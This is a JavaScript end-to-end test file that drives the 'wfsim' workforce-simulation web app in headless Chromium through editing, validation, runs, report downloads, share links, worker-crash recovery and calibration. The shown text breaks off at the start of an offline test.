// End-to-end tests of the wfsim web app in headless Chromium (playwright-core).
//
//   node tests/e2e.mjs            (from www/, after `npm run build`; scripts/test-web does both)
//
// Serves www/dist on a free 127.0.0.1 port, then walks through what a finance officer does:
// edit, make and fix mistakes, reload, run, read the charts and the budget, download, share,
// compare with a baseline, cancel, survive an engine crash. Every request must stay on the
// page's origin. Screenshots go to www/screenshots/. Ends with "N passed, M failed".
//
// One file, over 600 lines, because the tests are one story on one page: each starts from the
// state the one before left (the edits, the runs, the baseline), so they read best in order.
// Other features' tests live in their own e2e-*.mjs files; the shared set-up is app.mjs, the
// runner and helpers harness.mjs.

import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { assert, downloadOf, eq, gbp, parseCsv, test } from './harness.mjs';
import {
  blockedByCsp,
  browser,
  cliSummary,
  expectingErrors,
  finish,
  firstDifference,
  newContext,
  newPage,
  origin,
  problemsText,
  ready,
  requests,
  runTo,
  shots,
  valid,
} from './app.mjs';

const TIMING_RUNS = Number(process.env.WFSIM_TIMING_RUNS || 10000);

// ---- the tests -------------------------------------------------------------------------------

const context = await newContext();
const page = await newPage(context);

await test('the page loads the engine and the Peterborough preset', async () => {
  await page.goto(`${origin}/`);
  await ready(page);
  eq(await page.inputValue('#in-name'), 'peterborough-2012', 'scenario name');
  eq(await page.inputValue('#in-workforce-establishment'), '81', 'establishment');
  await valid(page);
  assert((await problemsText(page)).includes('valid'), 'shows the scenario is valid');
  const groups = await page.locator('details.group > summary .group-title').allInnerTexts();
  for (const g of [
    'Scenario and time',
    'Workforce',
    'Agency',
    'Peripatetic pods',
    'Recruitment',
    'Demand and early help',
    'Assessments',
    'Casework',
    'Looked-after children',
    'Costs',
    'Budget',
    'Initial state',
  ])
    assert(groups.includes(g), `group ${g} present (got ${groups.join(', ')})`);
  const help = await page.locator('#field-workforce-establishment .help').innerText();
  assert(help.includes('Funded social-worker posts'), 'help text from the schema');
  const note = await page.locator('#field-workforce-establishment .note').innerText();
  assert(note.includes('rebased'), 'preset source note shown');
});

await test('the decision analysis panel lists its outcomes before it is first used', async () => {
  // Nothing in the panel has been clicked or focused: its lists must not be empty.
  const outcomes = await page.locator('#sens-metric option').allTextContents();
  assert(outcomes.length > 5, `outcomes offered (${outcomes.length})`);
  eq(await page.inputValue('#sens-metric'), 'ia_backlog', 'a sensible outcome chosen');
  assert((await page.locator('#sens-line option').count()) >= 7, 'budget lines offered');
});

await test('every control has a label', async () => {
  // Open every group so that every control is rendered and checked.
  await page.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
  const unlabelled = await page.evaluate(() => {
    const out = [];
    for (const el of document.querySelectorAll('input, select, textarea, button')) {
      if (el.type === 'hidden' || el.hidden) continue;
      const name =
        (el.labels && [...el.labels].map((l) => l.textContent.trim()).join(' ')) ||
        el.getAttribute('aria-label') ||
        (el.getAttribute('aria-labelledby') &&
          document.getElementById(el.getAttribute('aria-labelledby'))?.textContent) ||
        (el.tagName === 'BUTTON' ? el.textContent.trim() : '');
      if (!name || !name.trim()) out.push(el.outerHTML.slice(0, 120));
    }
    return out;
  });
  eq(unlabelled.length, 0, `unlabelled controls: ${unlabelled.slice(0, 5).join(' | ')}`);
});

await test('lists can be added to and removed from', async () => {
  const pods = () => page.locator('section.list[data-path="pods"] > fieldset.item').count();
  eq(await pods(), 1, 'one pod');
  await page.click('#add-pods');
  eq(await pods(), 2, 'pod added');
  await page.fill('#in-pods-1-social_workers', '4');
  await page.click('#remove-pods-1');
  eq(await pods(), 1, 'pod removed');
  const stages = await page
    .locator('section.list[data-path="recruitment.stages"] > fieldset.item')
    .count();
  eq(stages, 4, 'four recruitment stages');
  await valid(page);
});

await test('a bad value shows its error next to its field while other edits are kept', async () => {
  await page.fill('#in-workforce-establishment', '85');
  // Turnover is a 90% range in the preset: switch it to a fixed value, then type 1.7.
  await page.selectOption('#mode-workforce-turnover', 'fixed');
  await page.fill('#in-workforce-turnover', '1.7');
  await page.waitForSelector('#field-workforce-turnover ul.errors li', { timeout: 20000 });
  const err = await page.locator('#field-workforce-turnover ul.errors').innerText();
  assert(/1\.7/.test(err), `turnover error mentions the value: ${err}`);
  eq(await page.inputValue('#in-workforce-turnover'), '1.7', 'bad value stays in the field');
  eq(await page.inputValue('#in-workforce-establishment'), '85', 'other edit kept');
  assert(await page.locator('#run').isDisabled(), 'run disabled while invalid');
  // Something the engine cannot read at all: checked by the page, the rest still checked.
  await page.fill('#in-agency-cap', '3O');
  await page.waitForSelector('#field-agency-cap ul.errors li', { timeout: 20000 });
  assert(
    (await page.locator('#field-agency-cap ul.errors').innerText()).includes('not a number'),
    'unreadable value reported at its field',
  );
  await page.waitForTimeout(800);
  assert(
    (await page.locator('#field-workforce-turnover ul.errors li').count()) > 0,
    'turnover error still shown alongside',
  );
  await page.screenshot({ path: join(shots, 'editor-errors.png') });
});

await test('edits, including bad values, survive a reload', async () => {
  await page.waitForTimeout(500);
  await page.reload();
  await ready(page);
  eq(await page.inputValue('#in-workforce-establishment'), '85', 'establishment restored');
  eq(await page.inputValue('#in-workforce-turnover'), '1.7', 'bad turnover restored');
  eq(await page.inputValue('#in-agency-cap'), '3O', 'unreadable cap restored');
  await page.waitForSelector('#field-workforce-turnover ul.errors li', { timeout: 20000 });
  await page.waitForSelector('#field-agency-cap ul.errors li', { timeout: 20000 });
});

await test('fixing the values clears the errors', async () => {
  await page.fill('#in-workforce-turnover', '0.26');
  await page.fill('#in-agency-cap', '32');
  await valid(page);
  eq(await page.locator('#form ul.errors li').count(), 0, 'no field errors');
  assert(!(await page.locator('#run').isDisabled()), 'run enabled');
});

await test('a decimal comma is refused with a message, never read as a different number', async () => {
  await page.fill('#in-agency-fill_probability', '0,5');
  await page.waitForSelector('#field-agency-fill_probability ul.errors li', { timeout: 20000 });
  const err = await page.locator('#field-agency-fill_probability ul.errors').innerText();
  assert(err.includes('“0,5”') && err.includes('0.5'), `says how to write it: ${err}`);
  assert(await page.locator('#run').isDisabled(), 'run disabled');
  await page.fill('#in-agency-fill_probability', '0.8');
  await valid(page);
  // The run settings too: "1,5" runs is not 15 runs; "1,500" is 1,500.
  await page.fill('#runs', '1,5');
  assert(await page.locator('#run').isDisabled(), 'run disabled for 1,5 runs');
  assert((await page.locator('#run-help').innerText()).includes('1,5'), 'run help names it');
  await page.fill('#runs', '1,500');
  assert(!(await page.locator('#run').isDisabled()), '1,500 runs accepted');
});

await test('a share’s hint shows a percentage only for a value that can be one', async () => {
  const hint = page.locator('#field-agency-fill_probability .hint');
  await page.fill('#in-agency-fill_probability', '-5');
  assert(!(await hint.innerText()).includes('%'), 'no "= -500%" for -5');
  await page.waitForSelector('#field-agency-fill_probability.invalid', { timeout: 20000 });
  assert(!(await hint.isVisible()), 'no hint while the field is invalid');
  await page.fill('#in-agency-fill_probability', '80%');
  await valid(page);
  eq(await hint.innerText(), '= 80%', '"80%" is read as 0.8');
  await page.fill('#in-agency-fill_probability', '0.8');
  await valid(page);
  eq(await hint.innerText(), '= 80%', 'hint for 0.8');
});

let summary;
await test('a run of 500 shows fan charts, the budget table and provenance', async () => {
  const ms = await runTo(page, 500, 20120326);
  console.log(`     500 runs in ${ms} ms`);
  const paths = await page.locator('#chart-assessment_team_cases .plot svg path').count();
  assert(paths >= 3, `chart has paths (${paths})`);
  for (const m of [
    'permanent_fte',
    'agency_fte',
    'pod_fte',
    'vacancies',
    'ia_backlog',
    'ca_backlog',
    'ia_on_time_rate',
    'ca_on_time_rate',
    'ia_overdue',
    'ca_overdue',
    'open_cases',
    'lac',
    'spend',
  ])
    assert((await page.locator(`#chart-${m} .plot svg`).count()) === 1, `chart ${m}`);
  const observed = await page.locator('#chart-assessment_team_cases').innerText();
  assert(
    observed.includes('observed 296') && observed.includes('observed 724'),
    'observed points marked',
  );
  const rows = await page.locator('#budget-table tbody tr[data-line]').count();
  assert(rows >= 6, `budget rows (${rows})`);
  eq(await page.locator('[data-prov="runs"]').innerText(), '500', 'provenance runs');
  eq(await page.locator('[data-prov="seed"]').innerText(), '20120326', 'provenance seed');
  assert(
    /^[0-9a-f]{16}$/.test(await page.locator('[data-prov="hash"]').innerText()),
    'provenance hash',
  );
  assert(
    (await page.locator('[data-prov="engine"]').innerText()).startsWith('wfsim '),
    'engine version',
  );
  const cell = await page
    .locator('#budget-table tr[data-line="placements"] span[data-col="p50"]')
    .first()
    .innerText();
  assert(/^£\d{1,3}(,\d{3})*$/.test(cell), `money formatted as £1,234,567: ${cell}`);
  // Hovering a chart shows the values (Plot's tip).
  await page.locator('#chart-ia_backlog').scrollIntoViewIfNeeded();
  const box = await page.locator('#chart-ia_backlog .plot svg').boundingBox();
  await page.mouse.move(box.x + box.width * 0.4, box.y + box.height * 0.5);
  await page.waitForSelector('#chart-ia_backlog [aria-label="tip"] text', { timeout: 5000 });
  const tip = await page.locator('#chart-ia_backlog [aria-label="tip"]').textContent();
  assert(tip.includes('Median') && tip.includes('90% of runs'), `tip shows values: ${tip}`);
  await page.screenshot({ path: join(shots, 'chart-tip.png') });
  await page.locator('#results-scroll').evaluate((e) => (e.scrollTop = 0));
  await page.screenshot({ path: join(shots, 'results.png') });
  await page.locator('#sec-charts').scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(shots, 'charts.png') });
});

await test('downloaded CSV and JSON match what the page shows', async () => {
  const json = await downloadOf(page, () => page.click('#dl-summary-json'));
  summary = JSON.parse(json.data.toString());
  eq(summary.schema, 'wfsim.summary/1', 'summary schema');
  eq(summary.runs, 500, 'summary runs');
  eq(
    summary.scenario.hash,
    await page.locator('[data-prov="hash"]').innerText(),
    'hash matches provenance',
  );

  const budget = await downloadOf(page, () => page.click('#dl-budget-csv'));
  assert(budget.name.endsWith('-budget.csv'), `budget file name ${budget.name}`);
  const b = parseCsv(budget.data.toString());
  for (const col of ['financial_year', 'line', 'budget', 'mean', 'p5', 'p50', 'p95', 'p_overspend'])
    assert(b.header.includes(col), `budget CSV has ${col}`);
  const row = b.rows.find((r) => r.financial_year === '2012-13' && r.line === 'permanent_staffing');
  assert(row, 'budget CSV has permanent staffing 2012-13');
  const cell = page.locator(
    '#budget-table tr[data-line="permanent_staffing"][data-year="2012-13"] span[data-col="p50"]',
  );
  eq(await cell.getAttribute('data-value'), row.p50, 'table p50 equals CSV p50');
  eq(await cell.innerText(), gbp(row.p50), 'table shows CSV p50 in £');

  const series = await downloadOf(page, () => page.click('#dl-series-csv'));
  const s = parseCsv(series.data.toString());
  eq(s.header.join(','), 'week,metric,statistic,value', 'series CSV header');
  const week = summary.weeks[15];
  const lac = s.rows.find((r) => r.week === week && r.metric === 'lac' && r.statistic === 'p50');
  assert(lac, 'series CSV has lac p50');
  eq(Number(lac.value), summary.series.lac.p50[15], 'series CSV value equals summary');
});

await test('the report downloads as a zip made by the Rust report code', async () => {
  await page.locator('#dl-report').scrollIntoViewIfNeeded();
  const [zip] = await Promise.all([downloadOf(page, () => page.click('#dl-report'))]);
  eq(zip.name, 'wfsim-report-peterborough-2012-20120326.zip', 'zip file name');
  const files = unzipSync(new Uint8Array(zip.data));
  const names = Object.keys(files);
  for (const f of ['summary.html', 'summary.md', 'workbook.xlsx', 'budget.csv'])
    assert(names.includes(f), `zip has ${f}: ${names.join(', ')}`);
  const svgs = names.filter((n) => /^charts\/.+\.svg$/.test(n));
  assert(svgs.length >= 3, `zip has charts/*.svg (${svgs.length})`);
  assert(strFromU8(files[svgs[0]]).includes('<svg'), 'chart is SVG');
  const xlsx = files['workbook.xlsx'];
  assert(xlsx[0] === 0x50 && xlsx[1] === 0x4b, 'workbook.xlsx is a zip (xlsx)');
  const md = strFromU8(files['summary.md']);
  assert(
    md.includes('peterborough-2012') && md.includes('20120326'),
    'summary.md names the scenario and seed',
  );
  // summary.html opens in the browser too.
  await page.waitForSelector('#open-report-html', { timeout: 10000 });
  const [popup] = await Promise.all([
    context.waitForEvent('page'),
    page.click('#open-report-html'),
  ]);
  await popup.waitForLoadState();
  const body = await popup.locator('body').innerText();
  assert(body.includes('peterborough-2012'), 'summary.html shows the scenario');
  await popup.close();
});

await test('charts download as SVG and PNG', async () => {
  const svg = await downloadOf(page, () => page.click('#chart-lac button:has-text("SVG")'));
  const text = svg.data.toString();
  assert(
    text.startsWith('<?xml') && text.includes('<svg') && text.includes('Looked-after children'),
    'SVG with title',
  );
  assert(!text.includes('href="http'), 'SVG has no external references');
  const png = await downloadOf(page, () => page.click('#chart-lac button:has-text("PNG")'));
  eq(png.data.subarray(1, 4).toString(), 'PNG', 'PNG signature');
  assert(png.data.length > 5000, `PNG has content (${png.data.length} bytes)`);
});

await test('the scenario downloads as TOML and JSON and opens again', async () => {
  const toml = await downloadOf(page, () => page.click('#save-toml'));
  const t = toml.data.toString();
  assert(t.includes('establishment = 85') && t.includes('turnover = 0.26'), 'TOML has the edits');
  assert(
    t.includes('[[pods]]') && t.includes('weekly_price = "13500"'),
    'TOML has tables and money strings',
  );
  assert(t.includes('# [SEED]'), 'TOML keeps the preset source comments');
  const json = await downloadOf(page, () => page.click('#save-json'));
  eq(JSON.parse(json.data.toString()).workforce.establishment, 85, 'JSON has the edit');
  // Open a changed copy of the TOML file.
  const path = join(shots, '..', 'node_modules', '.e2e-upload.toml');
  await writeFile(path, t.replace('establishment = 85', 'establishment = 83'));
  await page.setInputFiles('#file-input', path);
  await page.waitForFunction(
    () => document.querySelector('#in-workforce-establishment')?.value === '83',
    null,
    { timeout: 10000 },
  );
  assert((await page.locator('#notice').innerText()).includes('Opened'), 'notice after opening');
  await page.click('#notice button:has-text("Undo")');
  await page.waitForFunction(
    () => document.querySelector('#in-workforce-establishment')?.value === '85',
    null,
    { timeout: 10000 },
  );
  await valid(page);
});

await test('the text view edits the same scenario', async () => {
  await page.click('#tab-text');
  const text = await page.inputValue('#scenario-text');
  assert(text.includes('establishment = 85'), 'TOML text shows the edit');
  await page.fill('#scenario-text', text.replace('establishment = 85', 'establishment = 86'));
  await page.waitForTimeout(900);
  await valid(page);
  // A syntax error is reported and the text is kept.
  await page.fill('#scenario-text', text.replace('establishment = 85', 'establishment = = 86'));
  await page.waitForFunction(
    () => document.querySelector('#text-status')?.classList.contains('bad'),
    null,
    { timeout: 10000 },
  );
  assert(
    (await page.locator('#text-status').innerText()).includes('line'),
    'syntax error with its line',
  );
  assert(await page.locator('#run').isDisabled(), 'run disabled while the text cannot be read');
  await page.fill('#scenario-text', text.replace('establishment = 85', 'establishment = 85'));
  await page.waitForTimeout(900);
  await valid(page);
  await page.click('#tab-form');
  eq(await page.inputValue('#in-workforce-establishment'), '85', 'form shows the text edit');
});

await test('a share link restores the scenario in a fresh browser', async () => {
  await page.fill('#runs', '750');
  await page.click('#share');
  const url = await page.inputValue('#share-url');
  assert(url.startsWith(`${origin}/#s=`), `share URL form: ${url.slice(0, 60)}`);
  await page.click('#close-share');
  const fresh = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  fresh.on('request', (r) => requests.push(r.url()));
  const other = await newPage(fresh);
  await other.goto(url);
  await ready(other);
  eq(
    await other.inputValue('#in-workforce-establishment'),
    '85',
    'edited establishment restored from the link',
  );
  eq(
    await other.inputValue('#in-workforce-turnover'),
    '0.26',
    'edited turnover restored from the link',
  );
  eq(await other.inputValue('#runs'), '750', 'runs from the link');
  assert(!other.url().includes('#s='), 'fragment removed after opening');
  // It is now the working scenario: a reload keeps it.
  await other.reload();
  await ready(other);
  eq(
    await other.inputValue('#in-workforce-establishment'),
    '85',
    'shared scenario kept after reload',
  );
  await fresh.close();
});

await test('a link to another scenario names it in the header and offers to run it', async () => {
  eq(
    await page.locator('#working-name').innerText(),
    'peterborough-2012',
    'header names the preset',
  );
  await page.fill('#in-name', 'another authority');
  await page.click('#share');
  const url = await page.inputValue('#share-url');
  await page.click('#close-share');
  await page.fill('#in-name', 'peterborough-2012');
  await valid(page);
  // Opened while the page shows peterborough-2012 and its results.
  await page.goto(url);
  await page.waitForFunction(
    () => document.querySelector('#working-name')?.textContent === 'another authority',
    null,
    { timeout: 10000 },
  );
  eq(await page.inputValue('#preset-select'), '', 'the preset picker no longer says peterborough');
  assert(
    (await page.locator('#stale-text').innerText()).includes('“another authority”'),
    'the old results say whose they are',
  );
  await valid(page);
  await page.click('#notice-run');
  await page.waitForFunction(
    () => document.querySelector('[data-prov="name"]')?.textContent === 'another authority',
    null,
    { timeout: 60000 },
  );
  await page.fill('#in-name', 'peterborough-2012');
  eq(await page.locator('#working-name').innerText(), 'peterborough-2012', 'header follows edits');
  await valid(page);
});

// What a finance officer does to set "90 posts, agency cap 10" against the preset, counted
// from the app as it opens: each click and each field typed in is one action.
let actions = 0;
const act = async (f) => {
  actions++;
  await f();
};
await test('options: "90 posts, agency cap 10" against the preset in five actions', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1600, height: 1000 } });
  ctx.on('request', (r) => requests.push(r.url()));
  const p = await newPage(ctx);
  await p.goto(`${origin}/`);
  await ready(p);
  await valid(p);
  await p.fill('#runs', '400'); // the run settings as they are (not counted: any runs will do)
  await act(() => p.fill('#in-workforce-establishment', '90'));
  await act(() => p.click('details.group:has(#in-agency-cap) > summary'));
  await act(() => p.fill('#in-agency-cap', '10'));
  await act(() => p.fill('#run-name', '90 posts, agency cap 10'));
  await valid(p);
  await act(() => p.click('#run'));
  await p.waitForSelector(
    '#sbs-paired td[data-option="90 posts, agency cap 10"] [data-col="p-better"]',
    {
      timeout: 180000,
    },
  );
  eq(actions, 5, 'actions');
  console.log(`     "90 posts, agency cap 10" against the preset: ${actions} actions`);
  const names = await p
    .locator('#options-table input[type="text"]')
    .evaluateAll((xs) => xs.map((x) => x.value));
  eq(names.join(' | '), 'peterborough-2012 (preset) | 90 posts, agency cap 10', 'options kept');
  assert(await p.locator('#opt-base-1').isChecked(), 'the preset is the base');
  assert(await p.locator('#opt-cmp-2').isChecked(), 'the new option is compared');
  // Paired headline measures, key metrics, budget lines and questions, side by side.
  eq(await p.locator('#sbs-paired tbody tr').count(), 4, 'four headline measures');
  const agency = await p.locator('#sbs-metrics tr[data-metric="agency_fte"]').innerText();
  assert(agency.split('\t').length === 3, `agency FTE for base and option: ${agency}`);
  assert((await p.locator('#sbs-budget tbody tr').count()) >= 14, 'budget lines by year');
  const staffing = p.locator('#sbs-budget tr[data-line="agency_staffing"][data-year="2012-13"] td');
  eq(await staffing.count(), 3, 'the year, and agency staffing of base and option');
  assert((await p.locator('#sbs-questions tbody tr').count()) >= 3, 'questions compared');
  assert(
    (await p.locator('#sbs-changes').innerText()).includes('agency.cap'),
    'what the option changes',
  );
  assert((await p.locator('#sbs-chart-agency_fte svg').count()) === 1, 'a chart of the options');
  assert((await p.locator('#sbs-spend-chart svg').count()) === 1, 'spend by year');
  // The run's own charts overlay the base.
  const lines = await p.locator('#chart-vacancies .plot svg [aria-label="line"]').count();
  assert(lines >= 2, `base and option lines (${lines})`);
  await p.locator('#sec-options').scrollIntoViewIfNeeded();
  await p.screenshot({ path: join(shots, 'options.png') });

  // Keep several: a third option (named after its changes), then both against the base.
  await p.fill('#in-workforce-establishment', '95');
  await valid(p);
  await p.click('#run');
  await p.waitForSelector(
    '#sbs-paired td[data-option="Establishment 95, Most agency workers at once 10"] [data-col="p-better"]',
    {
      timeout: 180000,
    },
  );
  eq(await p.locator('#sbs-paired thead th').count(), 4, 'measure, base and two options');
  const paired = await p.locator('#sbs-paired').innerText();

  // Kept in this browser: after a reload the options are there, and compare again to the
  // same figures (same runs and seed).
  await p.reload();
  await ready(p);
  eq(await p.locator('#options-table tbody tr').count(), 3, 'three options after a reload');
  assert(
    (await p.locator('#options-table').innerText()).includes('not run in this session'),
    'results are made again when needed',
  );
  await p.click('#options-compare');
  await p.waitForFunction(
    () => document.querySelectorAll('#sbs-paired [data-col="p-better"]').length === 8,
    null,
    { timeout: 180000 },
  );
  eq(await p.locator('#sbs-paired').innerText(), paired, 'the same paired figures');

  // Carried in a share link.
  await p.click('#share');
  const url = await p.inputValue('#share-url');
  const other = await newPage(await browser.newContext({ viewport: { width: 1400, height: 900 } }));
  await other.goto(url);
  await ready(other);
  const shared = await other
    .locator('#options-table input[type="text"]')
    .evaluateAll((xs) => xs.map((x) => x.value));
  eq(shared.length, 3, `options from the link: ${shared.join(' | ')}`);
  assert(shared.includes('90 posts, agency cap 10'), 'the named option from the link');
  assert(await other.locator('#opt-cmp-2').isChecked(), 'compared as in the link');

  // Another base: the options compared with it instead.
  await p.click('#close-share');
  await p.check('#opt-base-2');
  await p.waitForFunction(
    () => document.querySelector('#h-sbs')?.textContent.includes('against 90 posts, agency cap 10'),
    null,
    { timeout: 180000 },
  );
  await ctx.close();
  await other.context().close();
});

await test('cancel stops a long run and the page keeps working', async () => {
  const shown = await page.locator('[data-prov="runs"]').innerText();
  await page.fill('#runs', '1000000');
  await page.click('#run');
  await page.waitForFunction(() => Number(document.querySelector('#progress')?.value) > 0, null, {
    timeout: 60000,
  });
  assert(!(await page.locator('#cancel').isHidden()), 'cancel visible');
  // The page stays responsive while the worker runs.
  const t0 = Date.now();
  await page.evaluate(() => 1 + 1);
  assert(Date.now() - t0 < 1000, 'page responsive during a run');
  await page.click('#cancel');
  await page.waitForFunction(
    () => document.querySelector('#run-message')?.textContent.includes('cancelled'),
    null,
    { timeout: 10000 },
  );
  eq(await page.locator('[data-prov="runs"]').innerText(), shown, 'previous results kept');
  await runTo(page, 100, 7);
  eq(await page.locator('[data-prov="runs"]').innerText(), '100', 'runs again after cancel');
});

await test('runs split over 1, 2 and 3 workers give the command-line tool’s summary byte for byte', async () => {
  await page.selectOption('#preset-select', 'peterborough-2012');
  await page.click('#load-preset');
  await valid(page);
  // 300 runs: three blocks of the engine, so each of 3 workers has one. 10,000 runs: shares
  // of 3,300 to 5,000 runs, merged past the 4,096 values a column keeps raw (so the merge of
  // raw columns into histograms, and of histograms, is checked too).
  for (const [runs, workers] of [
    [300, [1, 2, 3]],
    [10000, [2, 3]],
  ]) {
    const cli = cliSummary(
      'run',
      '--preset',
      'peterborough-2012',
      '--runs',
      String(runs),
      '--seed',
      '20120326',
    );
    for (const w of workers) {
      await page.fill('#workers', String(w));
      eq(await page.evaluate(() => window.wfsimTest.workers()), w, 'pool size from the field');
      await runTo(page, runs, 20120326);
      const text = await page.evaluate(() => window.wfsimTest.state().summaryText);
      assert(text === cli, `${runs} runs on ${w} workers: ${firstDifference(text, cli)}`);
    }
  }
  await page.fill('#workers', '0');
  assert(await page.locator('#run').isDisabled(), 'no run on 0 workers');
  assert(
    /Workers must be a whole number from 1 to 16/.test(await page.locator('#run-help').innerText()),
    'the field named in the message',
  );
  await page.fill('#workers', '3');
});

await test('a worker that crashes mid-run is replaced and its share run again', async () => {
  // On 3 workers, worker 2 dies while it runs the middle share (of 2,000 runs).
  await runTo(page, 6000, 11);
  const clean = await page.evaluate(() => window.wfsimTest.state().summaryText);
  const before = await page.evaluate(() => window.wfsimTest.state().finishedAt);
  expectingErrors(true);
  await page.click('#run');
  await page.waitForFunction(() => Number(document.querySelector('#progress')?.value) > 0, null, {
    timeout: 60000,
  });
  await page.evaluate(() => window.wfsimTest.killWorker(1));
  await page.waitForFunction(
    (b) => window.wfsimTest.state().finishedAt !== b && !window.wfsimTest.state().running,
    before,
    { timeout: 180000 },
  );
  expectingErrors(false);
  assert(
    (await page.locator('#run-message').innerText()).includes('replaced'),
    'the run message says a worker was replaced',
  );
  const again = await page.evaluate(() => window.wfsimTest.state().summaryText);
  assert(again === clean, 'the same summary as without the crash');
});

await test('sensitivity: a tornado chart, its table and rank correlations', async () => {
  await page.locator('#analysis').scrollIntoViewIfNeeded();
  await page.click('#an-tab-sensitivity');
  await page.waitForFunction(
    () => document.querySelectorAll('#sens-metric option').length > 5,
    null,
    { timeout: 20000 },
  );
  await page.selectOption('#sens-metric', 'ia_backlog');
  await page.fill('#sens-date', '2012-03-14');
  await page.fill('#sens-runs', '20');
  await page.click('#sens-run');
  await page.waitForSelector('#tornado-chart svg', { timeout: 300000 });
  const bars = await page.locator('#tornado-chart svg [aria-label="bar"] rect').count();
  assert(bars >= 4, `tornado bars (${bars})`);
  const rows = await page.locator('#tornado-table tbody tr').count();
  assert(rows >= 2, `tornado table rows (${rows})`);
  assert((await page.locator('#rank-correlations tbody tr').count()) >= 1, 'rank correlations');
  assert((await page.locator('#h-analysis').count()) === 1, 'analysis heading');
  await page.locator('#sens-out').scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(shots, 'sensitivity.png') });
});

await test('targets: errors next to the input, then probabilities', async () => {
  await page.click('#an-tab-targets');
  await page.fill('#targets-text', 'ia_backlog <= ten on 2012-03-14');
  await page.waitForSelector('#targets-errors li', { timeout: 10000 });
  assert(
    (await page.locator('#targets-errors').innerText()).includes('not a number'),
    'parse error shown',
  );
  await page.fill(
    '#targets-text',
    'ia_backlog <= 10 on 2012-03-14\nagency_staffing 2012-13 spend <= budget',
  );
  await page.waitForFunction(
    () => document.querySelectorAll('#targets-errors li').length === 0,
    null,
    { timeout: 10000 },
  );
  await page.fill('#targets-runs', '200');
  await page.click('#targets-run');
  await page.waitForSelector('#targets-table tbody tr', { timeout: 120000 });
  eq(await page.locator('#targets-table tbody tr').count(), 2, 'two targets');
  const p = await page.locator('#targets-table td[data-col="probability"]').first().innerText();
  assert(/^\d+(\.\d)?%$/.test(p), `probability: ${p}`);
  assert(
    (await page.locator('#targets-table tbody tr').first().innerText()).includes('±'),
    'standard error shown',
  );
});

await test('calibration from the example observations, then use and undo', async () => {
  await page.click('#an-tab-calibration');
  await page.click('#cal-example');
  assert((await page.locator('#cal-csv').innerText()).includes('6 rows'), 'example loaded');
  const options = await page.locator('#cal-params option').allTextContents();
  const want = ['workforce.turnover', 'assessment.core.transfer_delay_days'].filter((p) =>
    options.includes(p),
  );
  assert(want.length >= 1, `parameters offered: ${options.slice(0, 8).join(', ')}`);
  await page.selectOption('#cal-params', want);
  await page.fill('#cal-draws', '200');
  await page.fill('#cal-accept', '0.1');
  await page.click('#cal-run');
  await page.waitForSelector('#cal-params-table tbody tr', { timeout: 300000 });
  eq(await page.locator('#cal-params-table tbody tr').count(), want.length, 'fitted rows');
  const mean = await page.locator('#cal-params-table td[data-col="mean"]').first().innerText();
  assert(/\d/.test(mean), `fitted mean: ${mean}`);
  assert((await page.locator('#cal-obs-table tbody tr').count()) === 6, 'fit per observation');
  await page.locator('#cal-out').scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(shots, 'calibration.png') });
  const before = await page.inputValue('#in-workforce-establishment');
  await page.click('#cal-use');
  await page.waitForSelector('#notice button:has-text("Undo")', { timeout: 5000 });
  assert(
    (await page.locator('#notice').innerText()).includes('calibrated'),
    'notice says calibrated',
  );
  await page.click('#notice button:has-text("Undo")');
  eq(await page.inputValue('#in-workforce-establishment'), before, 'undo restores the scenario');
  await valid(page);
});

await test('a parameter can be a distribution of any family the engine knows', async () => {
  await page.selectOption('#mode-workforce-turnover', 'dist');
  await page.waitForSelector('#in-workforce-turnover.dist', { timeout: 5000 });
  const families = await page.locator('#in-workforce-turnover option').allTextContents();
  eq(families.join(', '), 'Normal, Lognormal, Beta, Gamma, Uniform, Triangular, PERT', 'families');
  eq(await page.inputValue('#in-workforce-turnover'), 'beta', 'a share starts as a beta');
  const labels = () => page.locator('#field-workforce-turnover label.sub-label').allTextContents();
  eq((await labels()).join(', '), 'α, β', 'beta fields');
  await page.selectOption('#in-workforce-turnover', 'normal');
  await page.waitForFunction(
    () => document.querySelector('#in-workforce-turnover-sd') !== null,
    null,
    { timeout: 5000 },
  );
  eq((await labels()).join(', '), 'mean, standard deviation', 'normal fields');
  await valid(page);
});

let timing;
await test(`time ${TIMING_RUNS.toLocaleString('en-GB')} runs of the preset in the worker`, async () => {
  await page.selectOption('#preset-select', 'peterborough-2012');
  await page.click('#load-preset');
  await valid(page);
  timing = await runTo(page, TIMING_RUNS, 20120326);
  eq(
    await page.locator('[data-prov="runs"]').innerText(),
    TIMING_RUNS.toLocaleString('en-GB'),
    'runs done',
  );
  console.log(
    `     ${TIMING_RUNS} runs of peterborough-2012 in Chromium: ${(timing / 1000).toFixed(1)} s (page ${await page.locator('[data-prov="time"]').innerText()})`,
  );
  await page.locator('#results-scroll').evaluate((e) => (e.scrollTop = 0));
  await page.screenshot({ path: join(shots, 'results-10000.png') });
});

await test('the text view and the tabs work from the keyboard', async () => {
  await page.focus('#tab-form');
  await page.keyboard.press('ArrowRight');
  assert(await page.locator('#panel-text').isVisible(), 'text panel shown with the arrow key');
  const text = await page.inputValue('#scenario-text');
  assert(
    text.includes('[workforce]') && text.includes('turnover = { p5 = 0.18, p95 = 0.34 }'),
    'TOML keeps uncertain values inline',
  );
  await page.screenshot({ path: join(shots, 'text-view.png') });
  await page.keyboard.press('ArrowLeft');
  assert(await page.locator('#panel-form').isVisible(), 'form panel back');
  // Enter in the runs field starts a run.
  await page.fill('#runs', '64');
  const before = await page.evaluate(() => window.wfsimTest.state().finishedAt);
  await page.focus('#runs');
  await page.keyboard.press('Enter');
  await page.waitForFunction(
    (b) => window.wfsimTest.state().finishedAt !== b && !window.wfsimTest.state().running,
    before,
    { timeout: 60000 },
  );
  eq(await page.locator('[data-prov="runs"]').innerText(), '64', 'run started with Enter');
  // The Run button pressed from the keyboard: the focus is still on it afterwards.
  await page.fill('#runs', '65');
  const before2 = await page.evaluate(() => window.wfsimTest.state().finishedAt);
  await page.focus('#run');
  await page.keyboard.press('Enter');
  await page.waitForFunction(
    (b) => window.wfsimTest.state().finishedAt !== b && !window.wfsimTest.state().running,
    before2,
    { timeout: 60000 },
  );
  eq(await page.evaluate(() => document.activeElement?.id), 'run', 'focus kept on Run');
});

await test('works offline once loaded (service worker)', async () => {
